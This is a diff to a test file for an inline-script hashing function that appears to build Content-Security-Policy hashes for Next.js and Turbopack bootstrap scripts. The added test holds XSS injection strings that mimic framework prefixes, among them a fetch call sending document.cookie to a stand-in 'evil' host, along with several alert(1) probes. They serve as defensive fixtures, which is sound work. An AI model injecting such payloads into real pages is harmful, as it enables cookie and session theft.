@@ -9,12 +9,24 @@ describe("inlineScriptHashes", () => {
   it("hashes the framework's inline scripts byte for byte, CJK text included", () => {
     const payload = 'self.__next_f.push([1,"서명 签名"])';
     const bootstrap = "(self.__next_f=self.__next_f||[]).push([0])";
-    const html = `<script>${bootstrap}</script><script>${payload}</script><script id="_R_">(globalThis["TURBOPACK"] || []).push({})</script>`;
-    expect(inlineScriptHashes(html)).toEqual([sha(bootstrap), sha(payload), sha('(globalThis["TURBOPACK"] || []).push({})')]);
+    const chunks = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"]})';
+    const html = `<script>${bootstrap}</script><script>${payload}</script><script id="_R_">${chunks}</script><script>$RC("B:0","S:0")</script>`;
+    expect(inlineScriptHashes(html)).toEqual([sha(bootstrap), sha(payload), sha(chunks), sha('$RC("B:0","S:0")')]);
   });
 
   it("gives no hash to other inline scripts or to scripts with a src", () => {
     expect(inlineScriptHashes('<script>alert(1)</script><script src="/x.js"></script><script>fetch("//evil")</script>')).toEqual([]);
+  });
+
+  it("gives no hash to an injection that only begins like a framework script", () => {
+    const injections = [
+      "self.__next_f.push(1);fetch('//evil/'+document.cookie)",
+      'self.__next_f.push([1,"x"]);alert(1)//)',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1))',
+      '$RC("B:0","S:0");alert(1)',
+      "$RX=function(){alert(1)};$RX()",
+    ];
+    for (const injection of injections) expect(inlineScriptHashes(`<script>${injection}</script>`), injection).toEqual([]);
   });
 });
 
